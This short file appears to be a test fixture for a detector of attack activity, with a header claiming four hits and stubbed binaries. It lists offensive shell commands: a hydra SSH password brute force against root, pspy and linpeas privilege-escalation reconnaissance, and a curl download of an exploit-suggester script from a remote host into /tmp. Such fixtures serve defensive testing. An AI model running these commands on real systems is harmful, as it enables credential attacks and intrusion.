# SPDX-License-Identifier: Apache-2.0
# hits: 4
# fake: /usr/bin/hydra /tmp/pspy64 /usr/bin/curl
hydra -l root -P words.txt ssh://192.0.2.7
/tmp/pspy64 -p
sh /tmp/linpeas.sh -a
curl -sLo /tmp/les.sh http://192.0.2.7/les.sh
